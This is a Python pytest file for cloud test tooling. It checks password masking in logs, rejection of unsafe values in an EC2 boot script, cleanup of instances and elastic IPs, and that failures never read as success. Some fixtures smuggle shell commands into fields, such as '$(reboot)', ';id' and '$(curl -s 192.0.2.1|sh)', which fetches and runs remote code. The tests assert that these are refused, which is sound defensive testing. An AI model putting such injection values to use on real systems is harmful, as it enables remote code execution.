"""Holes an attacker or an unlucky operator could fall through: secrets in
logs, values that reach the boot script, resources lost or taken from another
run, and failures that must not read as success."""

import json
import logging
import signal
import subprocess
from pathlib import Path

import pytest
import requests
from conftest import REGION, build_vpc, cli_env, make_args, nat_record, run_cli, run_main, spoke_scan_args, tool
from faults import count_calls, fail_first
from test_e2e_rollprobe import inventory

from brimvale_testlibs.bin import cellscan, rollprobe
from brimvale_testlibs.bin.core.AppExitStatus import AppExitStatus
from brimvale_testlibs.bin.lib.commonlib import Common
from emulators.moto_ext import DEFAULT_AMI_ID
from emulators.topology import controller_entries, spoke_vpc

ROLE = "arn:aws:iam::123456789012:role/d"
SECRET = "pa ss=word"


@pytest.mark.parametrize(
    "form",
    [
        ["--controller_pass", SECRET],
        [f"--controller_p={SECRET}"],
        ["--controller_password", SECRET],
        [f"--controller_passw={SECRET}"],
    ],
)
def test_password_masked_in_every_form(aws, controller, tmp_path, monkeypatch, caplog, form):
    monkeypatch.chdir(tmp_path)
    controller.password = "other"  # the login is refused: the command line is logged before
    cellscan.start_aws_session.cache.clear()
    status = run_main(
        cellscan,
        monkeypatch,
        [
            *spoke_scan_args("vpc-1", controller.address, role=ROLE, password=form, gateway=()),
        ],
    )
    assert status == 1
    log = (tmp_path / "b/log/brimvale_testlibs.log").read_text()
    assert "****" in log
    for text in (log, *caplog.messages):
        assert "ss=word" not in text and "pa ss" not in text


def test_command_record_masks_a_given_secret(caplog):
    caplog.set_level(logging.INFO)
    Common.logCommandOptions("cellscan --controller_pa hunter2 --x hunter2x", "hunter2")
    assert caplog.messages == ["cellscan --controller_pa **** --x ****x"]


@pytest.mark.parametrize(
    "gw_ip,bucket,tag",
    [
        ("$(reboot)", "results", "n-1"),
        ("10.0.0.1;id", "results", "n-1"),
        ("10.0.0.1", "a b", "n-1"),
        ("10.0.0.1", "Results", "n-1"),
        ("10.0.0.1", "results", "n-1$(id)"),
        ("10.0.0.1", "results", "n\n1"),
        (None, "results", "n-1"),
    ],
)
def test_boot_script_refuses_unsafe_values(gw_ip, bucket, tag):
    with pytest.raises(ValueError):
        rollprobe.renderUserData(gw_ip, bucket, tag)


def test_boot_script_accepts_plain_values():
    script = rollprobe.renderUserData("10.0.0.1", "my-results.bucket", "nat-0abc-run:1")
    assert "s3://my-results.bucket/result-nat-0abc-run:1.txt" in script


@pytest.fixture
def fleet(aws, tmp_path, monkeypatch, sleeps, echo_ip):
    monkeypatch.chdir(tmp_path)

    def make(pairs=1, records=None, cidr="10.0.0.0/16", **opts):
        topo = build_vpc(aws.ec2, cidr=cidr, pairs=pairs)
        recs = records(topo) if records else [nat_record(*p, n=i) for i, p in enumerate(topo.pairs)]
        (tmp_path / "in.json").write_text(json.dumps(recs))
        return topo, make_args(test_config="in.json", output_test_config="out.json", **opts)

    return make


def deploy(aws, args):
    rollprobe.deployEc2s(aws.ec2, aws.s3, aws.iam, DEFAULT_AMI_ID, args)
    return json.loads(Path(args.output_test_config).read_text())


def test_injected_record_launches_nothing(aws, fleet, caplog):
    def records(topo):
        return [dict(nat_record(*topo.pairs[0]), gw_private_ip="$(curl -s 192.0.2.1|sh)")]

    aws.s3.create_bucket(Bucket="results")
    topo, args = fleet(records=records, s3_bucket="results")
    out = deploy(aws, args)
    assert aws.ec2.describe_instances()["Reservations"] == []
    assert "ec2_ip" not in out[0] and AppExitStatus().getStatus() == 1
    refused = [m for m in caplog.messages if "boot script" in m]
    assert len(refused) == 1 and "is not an IPv4 address" in refused[0]


def test_revert_keeps_another_vpcs_stray_address(aws, fleet, caplog):
    topo, args = fleet(eip=True)
    deploy(aws, args)

    def stray(vpc):
        tags = [{"Key": "Name", "Value": "brimvale-test-ec2-eip"}]
        if vpc:
            tags.append({"Key": "brimvale-test-ec2-vpc", "Value": vpc})
        return aws.ec2.allocate_address(Domain="vpc", TagSpecifications=[{"ResourceType": "elastic-ip", "Tags": tags}])[
            "PublicIp"
        ]

    mine, other, untagged = stray(topo.vpc), stray("vpc-0123456789abcdef0"), stray(None)
    rollprobe.terminateEc2s(aws.ec2, aws.iam, make_args(test_config="in.json", eip=True))
    left = {a["PublicIp"] for a in aws.ec2.describe_addresses()["Addresses"]}
    assert left == {other, untagged} and mine not in left
    assert AppExitStatus().getStatus() == 0


def test_failed_address_listing_still_cleans_up(aws, fleet, caplog):
    topo, args = fleet()
    deploy(aws, args)
    # The instance's own address lookup and the VPC's listing fail; the first
    # only defers its addresses to the second, which is the one error.
    fail_first(aws.ec2, "DescribeAddresses", "InternalError", 2)
    rollprobe.terminateEc2s(aws.ec2, aws.iam, make_args(test_config="in.json"))
    errors = [m for m in caplog.messages if "**Error**" in m]
    assert len(errors) == 1 and errors[0].startswith(f"  **Error** cannot list the elastic IPs of {topo.vpc}")
    assert aws.ec2.describe_key_pairs()["KeyPairs"] == []
    groups = {g["GroupName"] for g in aws.ec2.describe_security_groups()["SecurityGroups"]}
    assert groups == {"default"} and AppExitStatus().getStatus() == 1


def test_redeploy_after_revert(aws, fleet):
    topo, args = fleet(pairs=2, eip=True)
    deploy(aws, args)
    rollprobe.terminateEc2s(aws.ec2, aws.iam, make_args(test_config="in.json", eip=True))
    out = deploy(aws, args)  # the terminated instances are still listed
    assert all("ec2_ip" in r and "ec2_2nd_private_ip" in r for r in out)
    assert AppExitStatus().getStatus() == 0


def test_dry_run_address_makes_no_request(aws, caplog):
    calls = count_calls(aws.ec2)
    rollprobe.associateEIP(aws.ec2, "eni-1", make_args(dry_run=True), "vpc-1")
    assert calls == [] and aws.ec2.describe_addresses()["Addresses"] == []


def test_old_verdict_removed_before_launch(aws, fleet):
    aws.s3.create_bucket(Bucket="results")
    for key in ("result-nat-00000000000000000-.txt", "log-nat-00000000000000000-.txt", "result-other.txt"):
        aws.s3.put_object(Bucket="results", Key=key, Body=b"PASS\n")
    topo, args = fleet(s3_bucket="results")
    deploy(aws, args)
    keys = [o["Key"] for o in aws.s3.list_objects_v2(Bucket="results").get("Contents", [])]
    assert "result-nat-00000000000000000-.txt" not in keys and "log-nat-00000000000000000-.txt" not in keys
    assert "result-other.txt" in keys


@pytest.mark.parametrize(
    "records,expected",
    [
        ([], 1),  # nothing tested is no success
        ([{"nat_gw_id": "n0", "private_subnet_id": ""}], 1),
        ([{"nat_gw_id": "n0", "private_subnet_id": ""}, {"nat_gw_id": "n1", "private_subnet_id": "s"}], 0),
    ],
)
def test_verdict_counts_only_tested_records(aws, tmp_path, records, expected):
    aws.s3.create_bucket(Bucket="results")
    for name in ("n0", "n1"):
        aws.s3.put_object(Bucket="results", Key=f"result-{name}-.txt", Body=b"PASS\n" if name == "n1" else b"FAIL")
        aws.s3.put_object(Bucket="results", Key=f"log-{name}-.txt", Body=b"log")
    (tmp_path / "c.json").write_text(json.dumps(records))
    from types import SimpleNamespace

    args = SimpleNamespace(test_config=str(tmp_path / "c.json"), s3_bucket="results")
    assert rollprobe.getS3TestResults(aws.s3, args) == expected


def test_revert_removes_every_instance_of_a_subnet(aws, fleet, caplog, tmp_path):
    topo, args = fleet()
    deploy(aws, args)
    rec = nat_record(*topo.pairs[0])
    (tmp_path / "in.json").write_text(json.dumps([rec, dict(rec)]))  # a revert config may list a subnet twice
    gw = topo.pairs[0][0]
    extra = aws.ec2.run_instances(
        ImageId=DEFAULT_AMI_ID,
        MinCount=1,
        MaxCount=1,
        SubnetId=gw,
        TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": "brimvale-test-ec2"}]}],
    )
    assert extra and len(rollprobe.testInstancesInSubnet(aws.ec2, gw)) >= 2
    rollprobe.terminateEc2s(aws.ec2, aws.iam, make_args(test_config="in.json"))
    assert rollprobe.testInstancesInSubnet(aws.ec2, gw) == []
    assert AppExitStatus().getStatus() == 0


def test_revert_with_instances_left_fails(aws, fleet, caplog):
    topo, args = fleet(pairs=2)
    deploy(aws, args)
    Path("one.json").write_text(json.dumps(json.loads(Path("in.json").read_text())[:1]))
    rollprobe.terminateEc2s(aws.ec2, aws.iam, make_args(test_config="one.json"))
    assert AppExitStatus().getStatus() == 1
    assert any(m.startswith(f"  **Error** test instances remain in {topo.vpc}: i-") for m in caplog.messages)


def test_stale_addresses_do_not_pass(aws, fleet, caplog):
    def records(topo):
        return [dict(nat_record(*topo.pairs[0]), ec2_ip="198.51.100.200", ec2_2nd_private_ip="10.0.1.200")]

    topo, args = fleet(records=records)
    fail_first(aws.ec2, "RunInstances", "InsufficientInstanceCapacity", 1)
    out = deploy(aws, args)
    assert "ec2_ip" not in out[0] and "ec2_2nd_private_ip" not in out[0]
    assert AppExitStatus().getStatus() == 1


def test_other_launch_refusal_is_final(aws, fleet, sleeps, caplog):
    topo, args = fleet()
    counter = fail_first(
        aws.ec2,
        "RunInstances",
        "InvalidParameterValue",
        6,
        "The architecture 'arm64' of the specified instance type does not match the AMI",
    )
    out = deploy(aws, args)
    assert counter["calls"] == 1 and 10 not in sleeps
    assert not any("is not ready" in m for m in caplog.messages)
    assert (
        "  **Error** An error occurred (InvalidParameterValue) when calling the RunInstances operation: "
        "The architecture 'arm64' of the specified instance type does not match the AMI" in caplog.messages
    )
    assert "ec2_ip" not in out[0]


def test_launch_uses_the_profile_name_of_the_role(aws, fleet):
    aws.iam.create_role(RoleName="tester", AssumeRolePolicyDocument="{}")
    aws.iam.create_instance_profile(InstanceProfileName="tester-profile")
    aws.iam.add_role_to_instance_profile(InstanceProfileName="tester-profile", RoleName="tester")
    topo, args = fleet(ec2_role="tester")
    out = deploy(aws, args)
    iid = rollprobe.getEc2(aws.ec2, topo.pairs[0][0])[0]
    inst = aws.ec2.describe_instances(InstanceIds=[iid])["Reservations"][0]["Instances"][0]
    assert inst["IamInstanceProfile"]["Arn"].endswith("/tester-profile") and "ec2_ip" in out[0]


@pytest.mark.parametrize("fault", ["refuse", "partial"])
def test_failed_spoke_discovery_never_reads_as_success(server_clients, controller, tmp_path, fault):
    c = server_clients
    topo = spoke_vpc(c.ec2)
    controller.gateways = controller_entries(topo)
    if fault == "refuse":
        controller.mode = "refuse"
    else:
        controller.gateways[0]["public_ip"] = None  # the primary; its peer alone would be a partial config
    argv = [
        tool("cellscan"),
        *spoke_scan_args(topo.vpc, controller.address),
    ]
    for _ in range(2):
        r = run_cli(argv, tmp_path, cli_env(c.url))
        assert r.returncode == 1, r.stderr
        assert not (tmp_path / "b/subnet.config").exists() and "- Found" not in r.stderr


def test_revert_of_a_never_deployed_config_is_quiet(server_clients, tmp_path):
    c = server_clients
    topo = build_vpc(c.ec2, pairs=2)
    (tmp_path / "in.json").write_text(json.dumps([nat_record(*p, n=i) for i, p in enumerate(topo.pairs)]))
    r = run_cli(
        [tool("rollprobe"), "--revert", "--test_config", "in.json", "--backup_folder", "b", "--region", REGION],
        tmp_path,
        cli_env(c.url),
    )
    assert r.returncode == 0 and "Error" not in r.stderr and "Traceback" not in r.stderr, r.stderr


@pytest.mark.parametrize("signum,status", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_interrupted_deployment_writes_what_exists(server_clients, tmp_path, http_service, signum, status):
    c = server_clients
    echo = http_service({("GET", "/"): (200, {"ip": "203.0.113.7"})})
    topo = build_vpc(c.ec2, pairs=4)
    (tmp_path / "in.json").write_text(json.dumps([nat_record(*p, n=i) for i, p in enumerate(topo.pairs)]))
    env = cli_env(c.url, echo.url + "/")
    common = ["--test_config", "in.json", "--backup_folder", "b", "--region", REGION, "--eip"]
    requests.post(c.url + "/__faults__", json={"latency": 0.1})
    try:
        proc = subprocess.Popen(
            [tool("rollprobe"), *common, "--output_test_config", "out.json"],
            cwd=tmp_path,
            env=env,
            stderr=subprocess.PIPE,
            text=True,
        )
        seen = []
        for line in proc.stderr:
            seen.append(line)
            if "  Instance brimvale-test-ec2 " in line:  # the first launch went through
                proc.send_signal(signum)
                break
        rest = proc.communicate(timeout=300)[1]
    finally:
        requests.post(c.url + "/__faults__", json={"latency": 0})
    log = "".join(seen) + rest
    assert proc.returncode == status, log[-3000:]
    assert "Traceback" not in log
    assert "stopping; no new step starts" in log
    out = json.loads((tmp_path / "out.json").read_text())
    assert len(out) == 4 and "interrupted: test instance for" in log
    revert = run_cli([tool("rollprobe"), "--revert", *common], tmp_path, env)
    assert revert.returncode == 0, revert.stderr[-3000:]
    assert inventory(c, topo.vpc) == {k: [] for k in inventory(c, topo.vpc)}
